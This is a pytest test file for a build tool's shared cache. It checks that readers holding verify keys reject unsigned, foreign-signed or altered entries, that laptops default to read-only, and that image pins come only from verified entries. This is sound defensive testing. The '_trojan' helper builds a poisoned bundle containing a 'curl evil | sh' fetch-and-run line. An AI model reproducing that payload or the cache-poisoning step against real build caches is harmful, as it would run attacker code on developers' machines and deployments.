"""Who may write the shared cache, and what a reader accepts (issue 15, High 3).

Remapped entries: a writer maps a real action key to a valid but trojaned
bundle. With verify keys a reader refuses unsigned, foreign-signed and
altered entries; without them, a laptop is read-only by default, and results
that reach a deploy through metadata (an image's pin) are never taken from an
unverified shared entry.
"""

from __future__ import annotations

import io
import json
import tarfile
import zlib
from pathlib import Path

import pytest

from flyte_build.stores import signing
from flyte_build.hashing import sha256_hex
from flyte_build.stores.remote_stores import open_root
from flyte_build.stores.shared_cache import SharedCache, action_rel, blob_rel, read_only_mode
from flyte_build.stores.two_tier_cache import CacheStats
from flyte_build.stores.action_entry import ActionEntry, Output
from flyte_build.stores.local_store import LocalStore
from tests.support.repos import Cli, env_module, make_repo

pytestmark = pytest.mark.reliability("shared cache trust (signing, read-only)")

PRIVATE, PUBLIC = signing.keygen()
OTHER_PRIVATE, _ = signing.keygen()


@pytest.fixture(scope="module")
def repo(tmp_path_factory):
    base = tmp_path_factory.mktemp("trust")
    return make_repo(base / "repo", {"pkg/__init__.py": "", "pkg/a.py": env_module("a")})


def _trojan(store: Path, entry_path: Path, sign_with: str | None = None, alter_meta: bool = False) -> str:
    """Map the entry's key to a valid bundle of the attacker's; returns its digest."""
    doc = json.loads(entry_path.read_bytes())
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        data = b"import os; os.system('curl evil | sh')\n"
        info = tarfile.TarInfo("pkg/a.py")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    blob = buf.getvalue()
    hex_ = sha256_hex(blob)
    (store / blob_rel(hex_)).parent.mkdir(parents=True, exist_ok=True)
    (store / blob_rel(hex_)).write_bytes(blob)
    if alter_meta:
        doc["meta"]["files"] = 99  # a signed entry, altered after signing
    else:
        doc["outputs"] = [{"name": "bundle.tar.gz", "digest": hex_, "size": len(blob)}]
        doc.pop("sig", None)
        if sign_with:
            entry = ActionEntry.parse(doc["key"], json.dumps(doc).encode())
            doc = json.loads(signing.load_signer(environ={signing.SIGNING_KEY_ENV: sign_with}).sign(entry).to_json())
    entry_path.write_text(json.dumps(doc))
    _in_manifests(store, doc)
    return hex_


def _in_manifests(store: Path, doc: dict) -> None:
    """The same entry in every build manifest that carries its key: an attacker
    who can write `ac/` can write the manifests too (see build_manifest)."""
    for m in (store / "manifest").rglob("*.json.gz"):
        manifest = json.loads(zlib.decompress(m.read_bytes()))
        if doc["key"] in manifest["entries"]:
            manifest["entries"][doc["key"]] = doc
            m.write_bytes(zlib.compress(json.dumps(manifest).encode()))


def _bundle_entry(store: Path) -> Path:
    return next(p for p in (store / "ac").rglob("*.json") if json.loads(p.read_bytes())["target"] == "bundle:a")


def test_outside_ci_without_a_key_a_build_only_reads(repo, tmp_path):
    store = tmp_path / "store"
    laptop = Cli(repo, tmp_path / "laptop", env={"CI": ""})
    laptop.build("--cache", f"file://{store}").assert_ok()
    assert not (store / "ac").exists(), "a laptop published to the shared cache by default"
    laptop2 = Cli(repo, tmp_path / "laptop2", env={"CI": ""})
    laptop2.build("--cache", f"file://{store}", "--cache-write").assert_ok()
    assert list((store / "ac").rglob("*.json")), "--cache-write did not publish"
    # and CI=true with --cache-read-only leaves it alone
    store2 = tmp_path / "store2"
    Cli(repo, tmp_path / "ci", env={"CI": "true"}).build("--cache", f"file://{store2}", "--cache-read-only").assert_ok()
    assert not (store2 / "ac").exists()


@pytest.mark.parametrize("attack,why", [
    ("unsigned", "unsigned entry"),
    ("signed by another key", "not in cache-verify-keys"),
    ("altered after signing", "bad signature"),
])
def test_remapped_entries_are_refused_by_a_reader_holding_the_verify_key(repo, tmp_path, attack, why):
    store = tmp_path / "store"
    writer = Cli(repo, tmp_path / "ci", env={"CI": "", signing.SIGNING_KEY_ENV: PRIVATE})
    first = writer.build("--cache", f"file://{store}")
    first.assert_ok()
    real = first.digests()["bundle:a"]
    entry = _bundle_entry(store)
    assert json.loads(entry.read_bytes())["sig"]["key"] == PUBLIC
    assert list((store / "manifest").rglob("*.json.gz")), "the writer published no build manifest"
    # a reader with the verify key gets the signed entry
    reader = Cli(repo, tmp_path / "reader", env={"CI": "", signing.VERIFY_KEYS_ENV: PUBLIC})
    ok = reader.build("--cache", f"file://{store}")
    ok.assert_ok()
    assert next(t for t in ok.json()["targets"] if t["target"] == "bundle:a")["source"] == "shared"
    # the attack
    trojan = _trojan(store, entry, OTHER_PRIVATE if attack == "signed by another key" else None, attack == "altered after signing")
    victim = Cli(repo, tmp_path / "victim", env={"CI": "", signing.VERIFY_KEYS_ENV: PUBLIC})
    run = victim.build("--cache", f"file://{store}")
    run.assert_ok()
    doc = run.json()
    rec = next(t for t in doc["targets"] if t["target"] == "bundle:a")
    assert rec["status"] == "built" and rec["digest"] == real != f"sha256:{trojan}"
    assert any(why in w for w in doc["warnings"]), doc["warnings"]
    # the verify key in the committed config works the same
    (repo / "pyproject.toml").write_text((repo / "pyproject.toml").read_text() + f'cache-verify-keys = ["{PUBLIC}"]\n')
    try:
        again = Cli(repo, tmp_path / "victim2", env={"CI": ""}).build("--cache", f"file://{store}")
        again.assert_ok()
        assert again.digests()["bundle:a"] == real
    finally:
        (repo / "pyproject.toml").write_text((repo / "pyproject.toml").read_text().replace(f'cache-verify-keys = ["{PUBLIC}"]\n', ""))


def test_image_metadata_comes_only_from_verified_entries(tmp_path):
    """meta.pinned chose the image a real deploy registered: without a verified
    signature, a shared image entry is not used at all."""
    root = open_root(f"file://{tmp_path / 'store'}")
    key = sha256_hex(b"an image action")
    forged = ActionEntry(key, "image:a", (), {"uri": "r/a:t", "pinned": "evil/a@sha256:" + "0" * 64, "digest": "sha256:" + "0" * 64})
    root.put_bytes(action_rel(key), forged.to_json())
    local = LocalStore(tmp_path / "local")
    stats = CacheStats()
    unverified = SharedCache(root, print)
    assert unverified.fetch(key, local, stats, needs_signature=True) is None
    assert local.get_action(key) is None
    verifier = signing.load_verifier((PUBLIC,))
    assert SharedCache(root, print, verifier=verifier).fetch(key, local, stats, needs_signature=True) is None
    signed = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE}).sign(forged)
    root.put_bytes(action_rel(key), signed.to_json(), create_only=False)
    got = SharedCache(root, print, verifier=verifier).fetch(key, local, stats, needs_signature=True)
    assert got is not None and got.meta["pinned"] == forged.meta["pinned"]


def test_read_only_default_rules():
    signer = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE})
    verifier = signing.load_verifier((PUBLIC,))
    assert read_only_mode(None, None, None, {}) is True  # a laptop
    assert read_only_mode(None, None, None, {"CI": "true"}) is False
    assert read_only_mode(None, None, verifier, {"CI": "true"}) is True  # its entries would be refused
    assert read_only_mode(None, signer, verifier, {}) is False
    assert read_only_mode(True, signer, None, {"CI": "1"}) is True
    assert read_only_mode(False, None, None, {}) is False


@pytest.mark.parametrize("env,piece", [
    ({signing.VERIFY_KEYS_ENV: "not base64!"}, "FLYTE_BUILD_CACHE_VERIFY_KEYS"),
    ({signing.VERIFY_KEYS_ENV: "AAAA"}, "32 bytes"),
    ({signing.SIGNING_KEY_FILE_ENV: "/nonexistent/key"}, "/nonexistent/key"),
])
def test_bad_keys_are_input_errors(repo, tmp_path, env, piece):
    run = Cli(repo, tmp_path / "c", env=env).run("build", "--cache", f"file://{tmp_path / 'store'}")
    run.assert_clean_error(2, piece)
